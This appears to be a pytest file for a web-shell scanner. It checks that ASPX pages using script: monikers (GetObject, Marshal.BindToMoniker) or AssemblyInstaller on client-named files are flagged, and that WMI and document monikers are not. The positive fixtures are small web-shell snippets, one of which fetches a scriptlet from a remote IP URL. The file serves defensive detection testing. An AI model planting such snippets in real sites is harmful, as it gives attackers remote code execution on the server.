"""EXH-WS-CODE-SCRIPTLET: a page binding a `script:` moniker (VB and JScript `GetObject`,
`Marshal.BindToMoniker`) loads a Windows Script Component from a file or URL and runs its script,
whoever names it; and InstallUtil's `AssemblyInstaller` given a DLL the client names is
EXH-WS-CODE-ASSEMBLY. Kept quiet: `GetObject` of WMI or of a document file."""

from __future__ import annotations

import pytest

from code_support import assert_benign, assert_found, cs_page, vb_page

SCRIPTLET = "EXH-WS-CODE-SCRIPTLET"
JSCRIPT = '<%@ Page Language="JScript" %>\n<script runat="server">\nfunction Page_Load(s, e) {\n{body}\n}\n</script>'

SHELLS = [
    (
        "remote.aspx",
        vb_page('Dim o = GetObject("script:http://203.0.113.7/a.sct")'),
        SCRIPTLET,
        ["script:http://203.0.113.7/a.sct", "GetObject"],
    ),
    (
        "client.aspx",
        vb_page('Dim o = GetObject("script:" & Request("u"))'),
        SCRIPTLET,
        ["request parameter 'u'", "script: moniker"],
    ),
    (
        "bind.aspx",
        cs_page('System.Runtime.InteropServices.Marshal.BindToMoniker("script:" + Request.Form["u"]);'),
        SCRIPTLET,
        ["form field 'u'", "Marshal.BindToMoniker"],
    ),
    (
        "jscript.aspx",
        JSCRIPT.replace("{body}", 'var o = GetObject("script:C:\\\\Windows\\\\Temp\\\\x.wsc");'),
        SCRIPTLET,
        ["x.wsc"],
    ),
    (
        "installer.aspx",
        cs_page(
            'new System.Configuration.Install.AssemblyInstaller(Request["f"], new string[0])'
            ".Install(new System.Collections.Hashtable());"
        ),
        "EXH-WS-CODE-ASSEMBLY",
        ["request parameter 'f'", "new AssemblyInstaller"],
    ),
]


@pytest.mark.parametrize(("name", "code", "rule_id", "words"), SHELLS, ids=[s[0] for s in SHELLS])
def test_scriptlet_and_installer_found(name: str, code: str, rule_id: str, words: list[str]) -> None:
    assert_found(name, code, rule_id, words)


BENIGN = [
    ("wmi.aspx", vb_page('Dim o = GetObject("winmgmts:\\\\.\\root\\cimv2")')),
    ("book.aspx", vb_page('Dim o = GetObject("C:\\Reports\\book.xlsx")')),
    ("description.aspx", cs_page('lit.Text = "Use GetObject(\\"script:...\\") only in trusted scripts.";')),
]


@pytest.mark.parametrize(("name", "code"), BENIGN, ids=[b[0] for b in BENIGN])
def test_other_monikers_quiet(name: str, code: str) -> None:
    assert_benign(name, code)
